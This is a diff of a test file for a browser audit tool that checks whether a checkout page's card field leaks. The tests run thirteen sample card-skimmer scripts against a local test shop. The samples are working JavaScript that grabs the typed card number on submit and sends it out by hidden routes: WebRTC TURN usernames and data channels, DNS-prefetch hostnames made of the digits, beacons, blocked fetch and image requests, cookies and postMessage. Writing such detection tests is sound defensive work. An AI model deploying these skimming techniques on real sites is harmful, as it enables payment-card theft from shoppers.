@@ -3,7 +3,7 @@ import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { auditPage } from '../../src/audit/audit.js';
 import { Canary, type CanaryResult } from '../../src/audit/canary.js';
 import { launchChromium, loadDriver, type Browser } from '../../src/audit/driver.js';
-import { cleanShop, TOKENIZER } from './shop.js';
+import { cleanShop, TOKENIZER, type ShopScript } from './shop.js';
 import { elementScript, startSite, type Site } from './site.js';
 
 let browser: Browser;
@@ -19,8 +19,8 @@ afterAll(async () => {
 });
 
 /** The clean shop with `skimmer` as one more script, audited with the canary. */
-async function canary(skimmer?: string, html = ''): Promise<CanaryResult> {
-  cleanShop(site, skimmer ? [{ path: '/widget.js', body: skimmer }] : [], html);
+async function canary(skimmers: ShopScript[]): Promise<CanaryResult> {
+  cleanShop(site, skimmers);
   const run = await auditPage(browser, {
     url: `${site.origin}/checkout`,
     canary: true,
@@ -38,11 +38,117 @@ const seen = (result: CanaryResult, channel: RegExp) =>
   result.channels.find((entry) => channel.test(entry.channel))!;
 
 /** Runs the skimmer's body once the shopper submits, with `number` the digits typed. */
-const onSubmit = (body: string) => `const host = document.querySelector('card-tokenizer');
-document.addEventListener('submit', () => {
-  const number = host.querySelector('input[autocomplete="cc-number"]').value.replace(/\\D/g, '');
+const onSubmit = (body: string) => `document.addEventListener('submit', () => {
+  const input = document.querySelector('card-tokenizer input[autocomplete="cc-number"]');
+  const number = input.value.replace(/\\D/g, '');
   ${body}
 }, { capture: true, once: true });`;
+
+/** Skimmers, each with the leak that names it and the channel that counts it. */
+const SKIMMERS: [name: string, skimmer: string, leak: RegExp, channel: RegExp][] = [
+  [
+    'the number as a TURN user name',
+    onSubmit(
+      `new RTCPeerConnection({ iceServers: [{ urls: 'turn:127.0.0.1:3478', username: number, credential: 'x' }] });`,
+    ),
+    /^WebRTC RTCPeerConnection ICE servers in http:.*: card number, plain/,
+    /^WebRTC: ICE servers/,
+  ],
+  [
+    'the number in setConfiguration, in base64',
+    onSubmit(`const peer = new RTCPeerConnection();
+peer.setConfiguration({ iceServers: [{ urls: 'turn:127.0.0.1:3478', username: 'u', credential: btoa(number) }] });`),
+    /^WebRTC setConfiguration ICE servers in .*: base64 of card number, plain/,
+    /^WebRTC: ICE servers/,
+  ],
+  [
+    'the number on a data channel between two peers of the page',
+    onSubmit(`const a = new RTCPeerConnection();
+const b = new RTCPeerConnection();
+a.onicecandidate = ({ candidate }) => candidate && b.addIceCandidate(candidate);
+b.onicecandidate = ({ candidate }) => candidate && a.addIceCandidate(candidate);
+const channel = a.createDataChannel('x');
+channel.onopen = () => channel.send(number.replace(/(\\d{4})(?=\\d)/g, '$1-'));
+a.createOffer().then((offer) => a.setLocalDescription(offer))
+  .then(() => b.setRemoteDescription(a.localDescription))
+  .then(() => b.createAnswer()).then((answer) => b.setLocalDescription(answer))
+  .then(() => a.setRemoteDescription(b.localDescription));`),
+    /^WebRTC data channel "x" send in .*: card number, with separators/,
+    /^WebRTC data channel sends/,
+  ],
+  [
+    'a dns-prefetch host made of the digits',
+    onSubmit(`const link = document.createElement('link');
+link.rel = 'dns-prefetch';
+link.href = '//' + number + '.skim.invalid';
+document.head.append(link);`),
+    /^<link rel="dns-prefetch .*4970107111111119\.skim\.invalid.*: card number, plain/,
+    /^DNS-only hints/,
+  ],
+  [
+    'a preconnect host made of the digits, dotted',
+    onSubmit(`const link = document.createElement('link');
+link.rel = 'preconnect';
+link.href = 'https://' + number.replace(/(\\d{4})(?=\\d)/g, '$1.') + '.skim.invalid';
+document.head.append(link);`),
+    /^DOM in .*<link> added to <head>: card number, with separators/,
+    /^DOM writes/,
+  ],
+  [
+    'the digits in an attribute of the page',
+    onSubmit(`document.body.dataset.ref = btoa(number);`),
+    /^DOM in .*<body> data-ref: base64 of card number, plain/,
+    /^DOM writes/,
+  ],
+  [
+    'the number in two halves by two beacons',
+    onSubmit(`navigator.sendBeacon('/half-1', number.slice(0, 8));
+navigator.sendBeacon('/half-2', number.slice(8));`),
+    /^request POST .*\/half-2: digits after the first 8, plain/,
+    /^requests made/,
+  ],
+  [
+    'a request the CSP blocks',
+    onSubmit(
+      `fetch('http://127.0.0.2:8080/collect', { method: 'POST', body: JSON.stringify({ n: number }) }).catch(() => {});`,
+    ),
+    /^fetch POST http:\/\/127\.0\.0\.2:8080\/collect in .*, never sent: refused by the browser: card number, plain/,
+    /^fetch and XMLHttpRequest/,
+  ],
+  [
+    'an image the CSP blocks',
+    onSubmit(`new Image().src = 'http://127.0.0.2:8080/pixel.gif?d=' + btoa(number);`),
+    /^request to http:\/\/127\.0\.0\.2:8080\/pixel\.gif\?d=.* blocked by the CSP's img-src in .*: base64 of card number, plain/,
+    /^CSP violations/,
+  ],
+  [
+    'a cookie',
+    onSubmit(`document.cookie = 'basket=' + btoa(number) + '; path=/';`),
+    /^cookie basket of 127\.0\.0\.1: base64 of card number, plain/,
+    /^the browser's cookies/,
+  ],
+  [
+    'a console write',
+    onSubmit(`console.error('card', number.replace(/(\\d{4})(?=\\d)/g, '$1 '));`),
+    /^console: card number, with separators/,
+    /^console messages/,
+  ],
+  [
+    'a MessagePort',
+    onSubmit(`const { port1 } = new MessageChannel();
+port1.postMessage({ pan: number });`),
+    /^MessagePort\.postMessage in .*: card number, plain/,
+    /^postMessage/,
+  ],
+  [
+    "a TURN user name from a fresh frame's RTCPeerConnection",
+    onSubmit(`const frame = document.createElement('iframe');
+document.body.append(frame);
+new frame.contentWindow.RTCPeerConnection({ iceServers: [{ urls: 'turn:127.0.0.1:3478', username: number.replace(/(\\d{4})(?=\\d)/g, '$1 '), credential: 'x' }] });`),
+    /^WebRTC RTCPeerConnection ICE servers in about:blank: card number, with separators/,
+    /^WebRTC: ICE servers/,
+  ],
+];
 
 describe('card-tokenizer-audit --canary, every way out', () => {
   it('passes a clean page whose element looks the BIN up, and names that lookup', async () => {
@@ -76,117 +182,25 @@ host.binLookup = (bin, signal) =>
     expect(seen(result, /^final DOM/).seen).toBe(1);
   });
 
-  it.each([
-    [
-      'the number as a TURN user name',
-      onSubmit(
-        `new RTCPeerConnection({ iceServers: [{ urls: 'turn:127.0.0.1:3478', username: number, credential: 'x' }] });`,
-      ),
-      /^WebRTC RTCPeerConnection ICE servers in .*: card number, plain/,
-      /^WebRTC: ICE servers/,
-    ],
-    [
-      'the number in setConfiguration, in base64',
-      onSubmit(`const peer = new RTCPeerConnection();
-peer.setConfiguration({ iceServers: [{ urls: 'turn:127.0.0.1:3478', username: 'u', credential: btoa(number) }] });`),
-      /^WebRTC setConfiguration ICE servers in .*: base64 of card number, plain/,
-      /^WebRTC: ICE servers/,
-    ],
-    [
-      'the number on a data channel between two peers of the page',
-      onSubmit(`const a = new RTCPeerConnection();
-const b = new RTCPeerConnection();
-a.onicecandidate = ({ candidate }) => candidate && b.addIceCandidate(candidate);
-b.onicecandidate = ({ candidate }) => candidate && a.addIceCandidate(candidate);
-const channel = a.createDataChannel('x');
-channel.onopen = () => channel.send(number.replace(/(\\d{4})(?=\\d)/g, '$1-'));
-a.createOffer().then((offer) => a.setLocalDescription(offer))
-  .then(() => b.setRemoteDescription(a.localDescription))
-  .then(() => b.createAnswer()).then((answer) => b.setLocalDescription(answer))
-  .then(() => a.setRemoteDescription(b.localDescription));`),
-      /^WebRTC data channel "x" send in .*: card number, with separators/,
-      /^WebRTC data channel sends/,
-    ],
-    [
-      'a dns-prefetch host made of the digits',
-      onSubmit(`const link = document.createElement('link');
-link.rel = 'dns-prefetch';
-link.href = '//' + number + '.skim.invalid';
-document.head.append(link);`),
-      /^<link rel="dns-prefetch .*4970107111111119\.skim\.invalid.*: card number, plain/,
-      /^DNS-only hints/,
-    ],
-    [
-      'a preconnect host made of the digits, dotted',
-      onSubmit(`const link = document.createElement('link');
-link.rel = 'preconnect';
-link.href = 'https://' + number.replace(/(\\d{4})(?=\\d)/g, '$1.') + '.skim.invalid';
-document.head.append(link);`),
-      /^DOM in .*<link> added to <head>: card number, with separators/,
-      /^DOM writes/,
-    ],
-    [
-      'the digits in an attribute of the page',
-      onSubmit(`document.body.dataset.ref = btoa(number);`),
-      /^DOM in .*<body> data-ref: base64 of card number, plain/,
-      /^DOM writes/,
-    ],
-    [
-      'the number in two halves by two beacons',
-      onSubmit(`navigator.sendBeacon('/half-1', number.slice(0, 8));
-navigator.sendBeacon('/half-2', number.slice(8));`),
-      /^request POST .*\/half-2: digits after the first 8, plain/,
-      /^requests made/,
-    ],
-    [
-      'a request the CSP blocks',
-      onSubmit(
-        `fetch('http://127.0.0.2:8080/collect', { method: 'POST', body: JSON.stringify({ n: number }) }).catch(() => {});`,
-      ),
-      /^fetch POST http:\/\/127\.0\.0\.2:8080\/collect in .*, never sent: refused by the browser: card number, plain/,
-      /^fetch and XMLHttpRequest/,
-    ],
-    [
-      'an image the CSP blocks',
-      onSubmit(`new Image().src = 'http://127.0.0.2:8080/pixel.gif?d=' + btoa(number);`),
-      /^request to http:\/\/127\.0\.0\.2:8080\/pixel\.gif\?d=.* blocked by the CSP's img-src in .*: base64 of card number, plain/,
-      /^CSP violations/,
-    ],
-    [
-      'a cookie',
-      onSubmit(`document.cookie = 'basket=' + btoa(number) + '; path=/';`),
-      /^cookie basket of 127\.0\.0\.1: base64 of card number, plain/,
-      /^the browser's cookies/,
-    ],
-    [
-      'a console write',
-      onSubmit(`console.error('card', number.replace(/(\\d{4})(?=\\d)/g, '$1 '));`),
-      /^console: card number, with separators/,
-      /^console messages/,
-    ],
-    [
-      'a MessagePort',
-      onSubmit(`const { port1 } = new MessageChannel();
-port1.postMessage({ pan: number });`),
-      /^MessagePort\.postMessage in .*: card number, plain/,
-      /^postMessage/,
-    ],
-    [
-      "a TURN user name from a fresh frame's RTCPeerConnection",
-      onSubmit(`const frame = document.createElement('iframe');
-document.body.append(frame);
-new frame.contentWindow.RTCPeerConnection({ iceServers: [{ urls: 'turn:127.0.0.1:3478', username: number, credential: 'x' }] });`),
-      /^WebRTC RTCPeerConnection ICE servers in .*: card number, plain/,
-      /^WebRTC: ICE servers/,
-    ],
-  ])('catches %s', async (_name, skimmer, expected, channel) => {
-    const result = await canary(skimmer);
-    expect(
-      leaks(result).some((leak) => expected.test(leak)),
-      leaks(result).join('\n'),
-    ).toBe(true);
-    expect(seen(result, channel).leaks).toBeGreaterThan(0);
-    expect(result.tokenizationRequest).toBe('http://127.0.0.1:9/tokenize');
+  describe('skimmers, each its own script, in one page', () => {
+    let result: CanaryResult;
+    beforeAll(async () => {
+      result = await canary(
+        SKIMMERS.map(([, body], index) => ({ path: `/skimmer-${index}.js`, body })),
+      );
+    });
+
+    it("still stops the element's request alone", () => {
+      expect(result.tokenizationRequest).toBe('http://127.0.0.1:9/tokenize');
+    });
+
+    it.each(SKIMMERS)('catches %s', (_name, _skimmer, expected, channel) => {
+      expect(
+        leaks(result).some((leak) => expected.test(leak)),
+        leaks(result).join('\n'),
+      ).toBe(true);
+      expect(seen(result, channel).leaks).toBeGreaterThan(0);
+    });
   });
 });
 
